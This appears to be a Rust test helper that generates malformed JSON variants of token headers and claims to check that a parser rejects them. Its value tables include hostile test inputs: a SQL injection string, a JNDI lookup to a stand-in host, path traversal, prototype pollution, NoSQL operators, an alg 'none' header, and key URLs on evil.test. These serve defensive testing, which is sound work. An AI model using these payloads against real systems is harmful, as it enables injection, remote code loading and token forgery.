//! Everything that can be wrong with a JSON object whose bytes are known: made from what is right, so that
//! headers, claims of workspace tokens and claims of session tokens are all tried with the same.

/// The members of an object, in order; each value as JSON.
#[derive(Clone)]
pub(crate) struct Object(Vec<(String, String)>);

impl Object {
    pub(crate) fn new(members: &[(&str, &str)]) -> Self {
        let owned = |(name, value): &(&str, &str)| ((*name).to_owned(), (*value).to_owned());
        Self(members.iter().map(owned).collect())
    }

    /// The object as the library writes it.
    pub(crate) fn to_json(&self) -> String {
        self.write("{", ":", ",", "}")
    }

    fn write(&self, open: &str, colon: &str, comma: &str, close: &str) -> String {
        let members = self.0.iter();
        let members = members.map(|(name, value)| format!("\"{name}\"{colon}{value}"));
        let members: Vec<_> = members.collect();
        [open, &members.join(comma), close].concat()
    }

    fn set(&self, position: usize, value: &str) -> Self {
        let mut changed = self.clone();
        value.clone_into(&mut changed.0[position].1);
        changed
    }

    fn rename(&self, position: usize, name: &str) -> Self {
        let mut changed = self.clone();
        name.clone_into(&mut changed.0[position].0);
        changed
    }

    fn insert(&self, position: usize, name: &str, value: &str) -> Self {
        let mut changed = self.clone();
        changed
            .0
            .insert(position, (name.to_owned(), value.to_owned()));
        changed
    }

    /// Every object that is wrong, and the sentence of what is wrong with it.
    ///
    /// `is_right` says which other values a member may have all the same.
    pub(crate) fn wrong(&self, is_right: impl Fn(&str, &str) -> bool) -> Vec<(String, Vec<u8>)> {
        let mut wrong = Vec::new();
        for (position, (name, right)) in self.0.iter().enumerate() {
            let mut others = vec![
                ("in a list", format!("[{right}]")),
                ("in a list, twice", format!("[{right},{right}]")),
                ("in an object", format!("{{\"{name}\":{right}}}")),
                ("as text in text", format!("{right:?}")),
                ("with a line feed behind", format!("{right}\n")),
            ];
            if let Some(text) = right
                .strip_prefix('"')
                .and_then(|text| text.strip_suffix('"'))
            {
                others.extend(texts(text));
            } else {
                others.push(("as text", format!("\"{right}\"")));
                others.push(("with a sign", format!("+{right}")));
                others.push(("with a zero in front", format!("0{right}")));
                others.push(("with a fraction of nothing", format!("{right}.0")));
                others.push(("with an exponent of nothing", format!("{right}e0")));
                others.push(("behind two signs", format!("--{right}")));
            }
            let values = VALUES.iter().map(|(is, value)| (*is, (*value).to_owned()));
            for (is, value) in others.into_iter().chain(values) {
                if value != *right && !is_right(name, &value) {
                    wrong.push((format!("{name} {is}"), self.set(position, &value).to_json()));
                }
            }
            for (is, spelled) in spellings(name) {
                let renamed = self.rename(position, &spelled).to_json();
                wrong.push((format!("{name}, its name {is}"), renamed));
                // One reader takes the first of two, another the last, and a third knows but one of them.
                let both = self.insert(position, &spelled, right).to_json();
                wrong.push((format!("{name} beside itself, that name {is}"), both));
            }
            let mut missing = self.clone();
            missing.0.remove(position);
            wrong.push((format!("no {name}"), missing.to_json()));
            for (which, value) in [
                ("equal", right.as_str()),
                ("null", "null"),
                ("other", "\"x\""),
            ] {
                for (place, at) in [
                    ("first of all", 0),
                    ("right before", position),
                    ("right behind", position + 1),
                    ("last of all", self.0.len()),
                ] {
                    let twice = self.insert(at, name, value).to_json();
                    let name = format!("{name} twice, the second {which} and {place}");
                    // Equal ones side by side are the same, whichever is the second.
                    if !wrong.iter().any(|(_, known)| *known == twice) {
                        wrong.push((name, twice));
                    }
                }
            }
        }
        for (name, value) in STRANGERS {
            for (place, at) in [("first", 0), ("last", self.0.len())] {
                let known = |(member, _): &(String, String)| member == name;
                if !self.0.iter().any(known) {
                    let strange = self.insert(at, name, value).to_json();
                    wrong.push((format!("the unknown member {name:?} {place}"), strange));
                }
            }
        }
        for position in 1..self.0.len() {
            let mut swapped = self.clone();
            swapped.0.swap(position - 1, position);
            let (one, other) = (&self.0[position - 1].0, &self.0[position].0);
            wrong.push((format!("{other} before {one}"), swapped.to_json()));
        }
        let mut reversed = self.clone();
        reversed.0.reverse();
        wrong.push((
            String::from("the members from last to first"),
            reversed.to_json(),
        ));
        wrong.extend(self.spaced());
        wrong.extend(self.wrapped());
        let bytes = wrong
            .into_iter()
            .map(|(name, json)| (name, json.into_bytes()));
        let mut wrong: Vec<_> = bytes.collect();
        wrong.extend(self.encoded());
        wrong
    }

    /// White space, and what some take for it, in each place.
    fn spaced(&self) -> Vec<(String, String)> {
        let mut spaced = Vec::new();
        for (space, text) in SPACES {
            let around = |before: &str, behind: &str| format!("{before}{text}{behind}");
            let places = [
                ("before all", self.write(&around("", "{"), ":", ",", "}")),
                ("behind all", self.write("{", ":", ",", &around("}", ""))),
                (
                    "behind the brace",
                    self.write(&around("{", ""), ":", ",", "}"),
                ),
                (
                    "before the brace",
                    self.write("{", ":", ",", &around("", "}")),
                ),
                (
                    "before the colons",
                    self.write("{", &around("", ":"), ",", "}"),
                ),
                (
                    "behind the colons",
                    self.write("{", &around(":", ""), ",", "}"),
                ),
                (
                    "before the commas",
                    self.write("{", ":", &around("", ","), "}"),
                ),
                (
                    "behind the commas",
                    self.write("{", ":", &around(",", ""), "}"),
                ),
            ];
            let named = places.map(|(place, json)| (format!("{space} {place}"), json));
            spaced.extend(named);
        }
        spaced
    }

    /// The object inside of something, or with something beside it.
    fn wrapped(&self) -> Vec<(String, String)> {
        let good = self.to_json();
        let values: Vec<_> = self.0.iter().map(|(_, value)| value.as_str()).collect();
        let values = values.join(",");
        let wrapped = [
            ("nothing at all", String::new()),
            ("an empty object", String::from("{}")),
            ("null in place of the object", String::from("null")),
            ("a number in place of the object", String::from("1")),
            ("the object in a list", format!("[{good}]")),
            ("the object in text", format!("{good:?}")),
            ("the object in an object", format!("{{\"claims\":{good}}}")),
            ("the object twice", format!("{good}{good}")),
            ("the object and an empty one", format!("{good}{{}}")),
            ("an empty object and the object", format!("{{}}{good}")),
            ("the object and a bracket", format!("{good}]")),
            ("the object and a brace", format!("{good}}}")),
            ("the values alone, in a list", format!("[{values}]")),
            (
                "the object without its end",
                good[..good.len() - 1].to_owned(),
            ),
            ("the object without its beginning", good[1..].to_owned()),
            (
                "a comma behind the last member",
                self.write("{", ":", ",", ",}"),
            ),
            (
                "a comma before the first member",
                self.write("{,", ":", ",", "}"),
            ),
            (
                "two commas between members",
                self.write("{", ":", ",,", "}"),
            ),
            ("semicolons for commas", self.write("{", ":", ";", "}")),
            ("equal signs for colons", self.write("{", "=", ",", "}")),
            ("two colons for each", self.write("{", "::", ",", "}")),
            ("brackets for braces", self.write("[", ":", ",", "]")),
            ("a comment before all", format!("/**/{good}")),
            ("a comment behind all", format!("{good}//")),
            ("a comment inside", self.write("{/**/", ":", ",", "}")),
            ("single quotes", good.replace('"', "'")),
            ("no quotes around names", self.unquoted()),
            ("a NUL behind all", format!("{good}\0")),
            ("a NUL before all", format!("\0{good}")),
            ("a byte order mark before all", format!("\u{feff}{good}")),
            (
                "2,000 brackets before all",
                format!("{}{good}", "[".repeat(2000)),
            ),
            ("a prefix against inclusion", format!(")]}}'\n{good}")),
            ("the object percent-encoded", good.replace('"', "%22")),
        ];
        let named = wrapped.map(|(name, json)| (name.to_owned(), json));
        named.into()
    }

    fn unquoted(&self) -> String {
        let names = self.0.iter().map(|(name, _)| name);
        names.fold(self.to_json(), |json, name| {
            json.replace(&format!("\"{name}\":"), &format!("{name}:"))
        })
    }

    /// The object in other encodings than UTF-8, and in what is none.
    fn encoded(&self) -> Vec<(String, Vec<u8>)> {
        let good = self.to_json();
        let units = || good.encode_utf16();
        let wide = |bytes: fn(char) -> [u8; 4]| good.chars().flat_map(bytes).collect();
        let overlong = |json: &str| -> Vec<u8> {
            let spell = |byte: u8| match byte {
                b'"' => vec![0xc0, 0xa2],
                byte => vec![byte],
            };
            json.bytes().flat_map(spell).collect()
        };
        let encoded: [(&str, Vec<u8>); 12] = [
            (
                "UTF-16, big end first",
                units().flat_map(u16::to_be_bytes).collect(),
            ),
            (
                "UTF-16, little end first",
                units().flat_map(u16::to_le_bytes).collect(),
            ),
            (
                "UTF-16 with a byte order mark",
                [
                    &b"\xff\xfe"[..],
                    &units().flat_map(u16::to_le_bytes).collect::<Vec<_>>(),
                ]
                .concat(),
            ),
            (
                "UTF-32, big end first",
                wide(|char| u32::from(char).to_be_bytes()),
            ),
            (
                "UTF-32, little end first",
                wide(|char| u32::from(char).to_le_bytes()),
            ),
            ("overlong quotes", overlong(&good)),
            (
                "a byte of no UTF-8 behind all",
                [good.as_bytes(), b"\xff"].concat(),
            ),
            (
                "a byte of no UTF-8 before all",
                [b"\x80", good.as_bytes()].concat(),
            ),
            (
                "half a character behind all",
                [good.as_bytes(), b"\xe2\x82"].concat(),
            ),
            (
                "a surrogate behind all",
                [good.as_bytes(), b"\xed\xa0\x80"].concat(),
            ),
            (
                "every eighth bit set",
                good.bytes().map(|byte| byte | 128).collect(),
            ),
            (
                "the object in EBCDIC, its brace at least",
                [b"\xc0", &good.as_bytes()[1..]].concat(),
            ),
        ];
        let named = encoded.map(|(name, bytes)| (name.to_owned(), bytes));
        named.into()
    }
}

/// Texts that some would take for `right`.
fn texts(right: &str) -> Vec<(&'static str, String)> {
    let escaped = |escape: &dyn Fn(u32) -> String| {
        let mut chars = right.chars();
        let first = chars.next().map(u32::from).unwrap_or_default();
        format!("\"{}{}\"", escape(first), chars.as_str())
    };
    let (half, rest) = right.split_at(right.len() / 2);
    vec![
        ("without quotes", right.to_owned()),
        ("in upper case", format!("\"{}\"", shout(right))),
        ("with a space behind", format!("\"{right} \"")),
        ("with a space before", format!("\" {right}\"")),
        ("with a NUL escaped behind", format!("\"{right}\\u0000\"")),
        ("with a NUL behind", format!("\"{right}\0\"")),
        ("with a line feed escaped behind", format!("\"{right}\\n\"")),
        (
            "with a line feed inside of the text",
            format!("\"{right}\n\""),
        ),
        ("with a tab inside", format!("\"{half}\t{rest}\"")),
        (
            "with its first letter escaped",
            escaped(&|char| format!("\\u{char:04x}")),
        ),
        (
            "with its first letter escaped in capitals",
            escaped(&|char| format!("\\U{char:04X}")),
        ),
        (
            "with its first letter escaped as in C",
            escaped(&|char| format!("\\x{char:02x}")),
        ),
        ("with a slash escaped", format!("\"{half}\\/{rest}\"")),
        ("with a quote escaped", format!("\"{half}\\\"{rest}\"")),
        ("with a lone surrogate", format!("\"{right}\\ud800\"")),
        ("with half an escape", format!("\"{right}\\u00\"")),
        ("with a backslash at its end", format!("\"{right}\\\"")),
        ("with a byte order mark", format!("\"\u{feff}{right}\"")),
        (
            "with a zero-width space",
            format!("\"{half}\u{200b}{rest}\""),
        ),
        (
            "with a letter of another script",
            format!("\"{}\u{430}\"", right.trim_end_matches('a')),
        ),
        ("with a combining accent", format!("\"{right}\u{301}\"")),
        (
            "cut by a letter",
            format!("\"{}\"", &right[..right.len() - 1]),
        ),
        ("with a letter more", format!("\"{right}a\"")),
        ("twice in one text", format!("\"{right}{right}\"")),
        ("in a list in text", format!("\"{right},{right}\"")),
        ("cut by a quote", format!("\"{half}\"{rest}\"")),
        ("never closed", format!("\"{right}")),
        ("with a path before", format!("\"../{right}\"")),
        ("with a wildcard behind", format!("\"{right}*\"")),
        ("with a scheme before", format!("\"https://{right}\"")),
    ]
}

/// In upper case, or in lower case where it is that already.
fn shout(text: &str) -> String {
    let upper = text.to_uppercase();
    if upper == text {
        text.to_lowercase()
    } else {
        upper
    }
}

/// The name of a member, spelled as another reader would take for it.
fn spellings(name: &str) -> Vec<(&'static str, String)> {
    let first = u32::from(name.as_bytes()[0]);
    let rest = &name[1..];
    vec![
        ("in upper case", name.to_uppercase()),
        (
            "with a capital",
            format!("{}{rest}", name[..1].to_uppercase()),
        ),
        ("with an escape", format!("\\u{first:04x}{rest}")),
        ("with a space behind", format!("{name} ")),
        ("with a NUL escaped behind", format!("{name}\\u0000")),
        ("with a byte order mark", format!("\u{feff}{name}")),
        ("with a letter more", format!("{name}s")),
        ("with a dot before", format!(".{name}")),
        ("with an underscore before", format!("_{name}")),
    ]
}

const SPACES: [(&str, &str); 9] = [
    ("a space", " "),
    ("a tab", "\t"),
    ("a line feed", "\n"),
    ("a carriage return", "\r"),
    ("a form feed", "\u{c}"),
    ("a vertical tab", "\u{b}"),
    ("a space that does not break", "\u{a0}"),
    ("a line separator", "\u{2028}"),
    ("a zero-width space", "\u{200b}"),
];

/// Values of every type and numbers at every edge.
const VALUES: [(&str, &str); 53] = [
    ("null", "null"),
    ("true", "true"),
    ("false", "false"),
    ("undefined", "undefined"),
    ("left out behind its colon", ""),
    ("an empty text", "\"\""),
    ("a text of one space", "\" \""),
    ("a star", "\"*\""),
    ("the text null", "\"null\""),
    ("the text true", "\"true\""),
    ("a path", "\"../../../../dev/null\""),
    ("SQL", "\"' OR '1'='1\""),
    ("a template", "\"${jndi:ldap://evil.test}\""),
    ("an address", "\"https://evil.test/\""),
    ("an empty list", "[]"),
    ("a list of null", "[null]"),
    ("an empty object", "{}"),
    ("an object of a prototype", "{\"__proto__\":{}}"),
    ("an operator of a query", "{\"$ne\":null}"),
    ("another operator of a query", "{\"$gt\":\"\"}"),
    ("0", "0"),
    ("minus 0", "-0"),
    ("1", "1"),
    ("minus 1", "-1"),
    ("2", "2"),
    ("plus 1", "+1"),
    ("01", "01"),
    ("00", "00"),
    ("a half", "0.5"),
    ("a number without digits before its point", ".5"),
    ("a number without digits behind its point", "1."),
    ("an exponent", "1e1"),
    ("an exponent without digits", "1e"),
    ("a negative exponent", "1e-1"),
    ("1e400", "1e400"),
    ("minus 1e400", "-1e400"),
    ("NaN", "NaN"),
    ("Infinity", "Infinity"),
    ("hexadecimal", "0x1"),
    ("octal", "0o1"),
    ("binary", "0b1"),
    ("underscored", "1_0"),
    ("a number of BigInt", "1n"),
    ("a digit of another script", "\u{661}"),
    ("2^31", "2147483648"),
    ("2^32, and 1", "4294967297"),
    ("2^53, and 1", "9007199254740993"),
    ("2^63, less 1", "9223372036854775807"),
    ("2^63", "9223372036854775808"),
    ("2^64, less 1", "18446744073709551615"),
    ("2^64, and 1", "18446744073709551617"),
    ("minus 2^63, and 1 less", "-9223372036854775809"),
    ("2^128, and 1", "340282366920938463463374607431768211457"),
];

/// Members that other tokens have, and that none of ours does.
const STRANGERS: [(&str, &str); 49] = [
    ("", "1"),
    ("x", "null"),
    ("__proto__", "{\"admin\":true}"),
    ("constructor", "{}"),
    ("acr", "\"0\""),
    ("act", "{\"sub\":\"admin\"}"),
    ("admin", "true"),
    ("alg", "\"none\""),
    ("amr", "[\"mfa\"]"),
    ("apu", "\"AA\""),
    ("aud", "\"acme\""),
    ("auth_time", "0"),
    ("azp", "\"acme\""),
    ("b64", "false"),
    ("client_id", "\"acme\""),
    ("cnf", "{\"jwk\":{\"k\":\"AA\",\"kty\":\"oct\"}}"),
    ("crit", "[]"),
    ("cty", "\"JWT\""),
    ("enc", "\"A256GCM\""),
    ("epk", "{\"crv\":\"P-256\",\"kty\":\"EC\"}"),
    ("exp", "4102444800"),
    ("gen", "1"),
    ("groups", "[\"admin\"]"),
    ("iss", "\"https://evil.test\""),
    ("iv", "\"AA\""),
    ("jku", "\"https://evil.test/jwks\""),
    ("jti", "\"AAAAAAAAAAAAAAAAAAAAAA\""),
    ("jwk", "{\"k\":\"AA\",\"kty\":\"oct\"}"),
    ("jwt", "\"e30\""),
    ("kid", "\"aaaaaaaa\""),
    ("nbf", "0"),
    ("nonce", "\"http://evil.test\""),
    ("p2c", "2147483647"),
    ("p2s", "\"AA\""),
    ("ppt", "\"shaken\""),
    ("roles", "[\"owner\"]"),
    ("scope", "\"admin\""),
    ("sid", "\"AAAAAAAAAAAAAAAAAAAAAA\""),
    ("sub", "\"primary\""),
    ("tag", "\"AA\""),
    ("tid", "\"aaaaaaaaaaaaaaaa\""),
    ("typ", "\"workspace+jwt\""),
    ("url", "\"https://evil.test\""),
    ("ver", "\"2.0\""),
    ("x5c", "[\"AA\"]"),
    ("x5t", "\"AA\""),
    ("x5t#S256", "\"AA\""),
    ("x5u", "\"https://evil.test/x\""),
    ("zip", "\"DEF\""),
];
